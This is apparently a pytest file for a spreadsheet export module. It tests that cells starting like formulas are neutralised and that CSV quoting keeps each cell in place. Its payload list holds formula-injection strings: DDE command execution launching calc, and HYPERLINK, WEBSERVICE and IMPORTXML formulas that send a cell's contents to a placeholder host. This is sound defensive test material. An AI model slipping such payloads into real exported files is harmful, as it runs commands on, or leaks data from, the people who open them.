"""Spreadsheets work formulas out: no file of ours brings one."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.core.spreadsheet import Sheet, harmless, restored
from tests.house import plan

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?"&A1,"Open")',
    '=IMPORTXML(CONCAT("https://example.org/",A1),"//a")',
    '=WEBSERVICE("https://example.org/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\calc.exe'!''",
    "@cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    " =1+1",
    "   +1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n@SUM(1)",
    "\x0b=1",
    "\x00=1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u00a0=1+1",
    "\u2028=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\N{MINUS SIGN}1+1",
    "|calc",
    "%0A=1",
    "'=1+1",
    '"=1+1"',
    "\tplain",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_what_could_be_a_formula_is_text(text):
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", PAYLOADS)
def test_no_cell_breaks_out_of_its_place(text):
    file = io.StringIO(newline="")
    Sheet(file).row([f'Tea", {text}', f"Tea, {text}", f"Tea\n{text}", text])
    (row,) = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert row == [f'Tea", {text}', f"Tea, {text}", f"Tea\n{text}", f"'{text}"]


@pytest.mark.parametrize(
    "text",
    ["Debt – advice", "fewer than 5", "12.5", "-0.337", "", "O'Hara", "a=b", "'tis", "e-mail"],
)
def test_ordinary_words_stay_as_they_are(text):
    assert harmless(text) == text


@given(st.text(alphabet="=+-@'\t\r＝1.a \u200b", max_size=8))
def test_every_cell_can_be_read_back(text):
    assert restored(harmless(text)) == text


def test_nothing_else_in_the_house_writes_such_a_file():
    writers = [
        dotted
        for dotted, path in plan.modules()
        if {"csv.writer", "csv.DictWriter"} & set(plan.imports(path))
        or any(one in path.read_text() for one in ("csv.writer(", "DictWriter("))
    ]
    assert writers == ["app.core.spreadsheet"]
